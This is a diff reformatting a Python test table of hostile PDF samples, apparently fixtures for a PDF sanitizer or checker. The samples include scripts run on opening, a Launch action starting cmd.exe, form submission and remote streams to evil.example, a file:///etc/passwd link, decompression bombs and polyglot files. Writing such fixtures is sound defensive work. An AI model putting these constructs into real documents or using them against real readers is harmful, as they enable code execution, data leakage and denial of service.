@@ -100,55 +100,99 @@ BOMB = zlib.compress(ZEROS, 9)
 
 HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
     "script at opening": ("scripts", lambda: _with(lambda pdf: pdf.Root.update({"/OpenAction": _js()}))),
-    "script in the name tree": ("scripts", lambda: _with(
-        lambda pdf: pdf.Root.update({"/Names": Dictionary(JavaScript=Dictionary(Names=["a", _js()]))}))),
-    "script in an object stream": ("scripts", lambda: _with(
-        lambda pdf: pdf.Root.update({"/OpenAction": pdf.make_indirect(_js())}),
-        object_stream_mode=pikepdf.ObjectStreamMode.generate)),
+    "script in the name tree": (
+        "scripts",
+        lambda: _with(lambda pdf: pdf.Root.update({"/Names": Dictionary(JavaScript=Dictionary(Names=["a", _js()]))})),
+    ),
+    "script in an object stream": (
+        "scripts",
+        lambda: _with(
+            lambda pdf: pdf.Root.update({"/OpenAction": pdf.make_indirect(_js())}),
+            object_stream_mode=pikepdf.ObjectStreamMode.generate,
+        ),
+    ),
     "script of a page": ("scripts", lambda: _with(lambda pdf: pdf.pages[0].obj.update({"/AA": Dictionary(O=_js())}))),
     "script of a link": ("scripts", lambda: _annotated(Subtype=Name.Link, A=_js())),
-    "script after another action": ("scripts", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="https://itu.int", Next=Array([_js()])))),
+    "script after another action": (
+        "scripts",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="https://itu.int", Next=Array([_js()]))),
+    ),
     "script under an escaped name": ("scripts", lambda: _by_hand(b"/OpenAction << /S /J#61vaScript /#4aS (x) >>")),
-    "script whose parts are behind references": ("scripts", lambda: _by_hand(
-        b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R >>", b"/JavaScript")),
+    "script whose parts are behind references": (
+        "scripts",
+        lambda: _by_hand(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R >>", b"/JavaScript"),
+    ),
     "script in an update": ("scripts", lambda: _updated()),
-    "form that is a program": ("scripts", lambda: _with(
-        lambda pdf: pdf.Root.update({"/AcroForm": Dictionary(XFA=pdf.make_stream(b"<xdp/>"))}))),
-    "program that is started": ("external", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
-    "document from a file server": ("external", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String(r"\\\\host\\share"), D=[0]))),
-    "form that is sent": ("external", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
-    "data that are imported": ("external", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf")))),
-    "link that is a script": ("external", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=" javascript:alert(1)"))),
-    "link to a file": ("external", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file:///etc/passwd"))),
-    "stream in another file": ("external", lambda: _by_hand(
-        b"", b"/Contents 4 0 R", _stream(b"", b"/F (http://evil.example/x)"))),
-    "page of another file": ("external", lambda: _by_hand(
-        b"", b"", _stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (x.pdf) /Page 0 >>"))),
+    "form that is a program": (
+        "scripts",
+        lambda: _with(lambda pdf: pdf.Root.update({"/AcroForm": Dictionary(XFA=pdf.make_stream(b"<xdp/>"))})),
+    ),
+    "program that is started": (
+        "external",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
+    ),
+    "document from a file server": (
+        "external",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String(r"\\\\host\\share"), D=[0])),
+    ),
+    "form that is sent": (
+        "external",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
+    ),
+    "data that are imported": (
+        "external",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf"))),
+    ),
+    "link that is a script": (
+        "external",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=" javascript:alert(1)")),
+    ),
+    "link to a file": (
+        "external",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file:///etc/passwd")),
+    ),
+    "stream in another file": (
+        "external",
+        lambda: _by_hand(b"", b"/Contents 4 0 R", _stream(b"", b"/F (http://evil.example/x)")),
+    ),
+    "page of another file": (
+        "external",
+        lambda: _by_hand(
+            b"", b"", _stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (x.pdf) /Page 0 >>")
+        ),
+    ),
     "embedded file": ("embedded", lambda: _with(_embedded)),
     "file in an annotation": ("embedded", lambda: _annotated(Subtype=Name.FileAttachment)),
     "portfolio": ("embedded", lambda: _with(lambda pdf: pdf.Root.update({"/Collection": Dictionary()}))),
-    "document in the document": ("embedded", lambda: _annotated(
-        Subtype=Name.Link, A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C)))),
+    "document in the document": (
+        "embedded",
+        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))),
+    ),
     "rich media": ("media", lambda: _annotated(Subtype=Name.RichMedia)),
     "film": ("media", lambda: _annotated(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition))),
     "three dimensions": ("media", lambda: _annotated(Subtype=Name("/3D"))),
     "password": ("encrypted", lambda: _saved(_document(), encryption=pikepdf.Encryption(user="u", owner="o"))),
-    "password of the owner alone": ("encrypted", lambda: _saved(
-        _document(), encryption=pikepdf.Encryption(user="", owner="o"))),
+    "password of the owner alone": (
+        "encrypted",
+        lambda: _saved(_document(), encryption=pikepdf.Encryption(user="", owner="o")),
+    ),
     "bomb": ("expands", lambda: _by_hand(b"", b"/Contents 4 0 R", _stream(BOMB, b"/Filter /FlateDecode"))),
-    "bomb in a bomb": ("expands", lambda: _by_hand(
-        b"", b"/Contents 4 0 R", _stream(zlib.compress(BOMB, 9), b"/Filter [/FlateDecode /FlateDecode]"))),
-    "many bombs": ("expands", lambda: _by_hand(b"", b"", *[
-        _stream(zlib.compress(ZEROS[:30_000_000], 9), b"/Filter /FlateDecode")] * 4)),
-    "image of billions of pixels": ("expands", lambda: _by_hand(
-        b"", b"", _stream(b"\0" * 9, b"/Subtype /Image /Width 90000 /Height 90000 /Filter /CCITTFaxDecode"))),
+    "bomb in a bomb": (
+        "expands",
+        lambda: _by_hand(
+            b"", b"/Contents 4 0 R", _stream(zlib.compress(BOMB, 9), b"/Filter [/FlateDecode /FlateDecode]")
+        ),
+    ),
+    "many bombs": (
+        "expands",
+        lambda: _by_hand(b"", b"", *[_stream(zlib.compress(ZEROS[:30_000_000], 9), b"/Filter /FlateDecode")] * 4),
+    ),
+    "image of billions of pixels": (
+        "expands",
+        lambda: _by_hand(
+            b"", b"", _stream(b"\0" * 9, b"/Subtype /Image /Width 90000 /Height 90000 /Filter /CCITTFaxDecode")
+        ),
+    ),
     "archive behind the end": ("polyglot", lambda: _saved(_document()) + _zip()),
     "archive in a comment": ("polyglot", lambda: _by_hand(b"", b"", b"% " + _zip() + b"\nnull")),
     "bytes before the beginning": ("polyglot", lambda: b"GIF89a" + _saved(_document())),
@@ -156,9 +200,11 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
     "cut": ("damaged", lambda: _saved(_document())[:-200]),
     "without objects": ("damaged", lambda: b"%PDF-1.7\n%%EOF\n"),
     "table of wrong places": ("damaged", lambda: _by_hand().replace(b"startxref\n", b"startxref\n9")),
-    "without pages": ("damaged", lambda: _raw(
-        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")),
-}  # fmt: skip
+    "without pages": (
+        "damaged",
+        lambda: _raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
+    ),
+}
 
 
 def _typeset() -> bytes:
